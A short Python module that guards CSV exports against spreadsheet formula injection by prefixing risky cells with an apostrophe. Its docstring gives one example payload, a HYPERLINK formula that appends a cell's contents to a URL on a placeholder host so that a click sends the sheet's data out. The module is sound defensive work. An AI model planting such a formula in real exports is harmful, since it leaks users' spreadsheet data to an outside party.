"""CSV that is safe to open in a spreadsheet (OWASP "CSV injection").

A spreadsheet runs a cell whose text starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage
return before one) as a formula: a summary reading ``=HYPERLINK("http://x/?"&A1, "see")`` would send
the sheet's data away when clicked. Every CSV the project writes passes its cells through ``cell``,
which prefixes such text with an apostrophe, so the spreadsheet shows it as text. Numbers stay numbers
and other text is unchanged; JSON exports are not touched (they stay exact).
"""
from __future__ import annotations

import pandas as pd

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def cell(value):
    """``value`` as a CSV cell: text that a spreadsheet would run as a formula, behind an apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def frame(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` with every cell through ``cell``."""
    return df.map(cell)
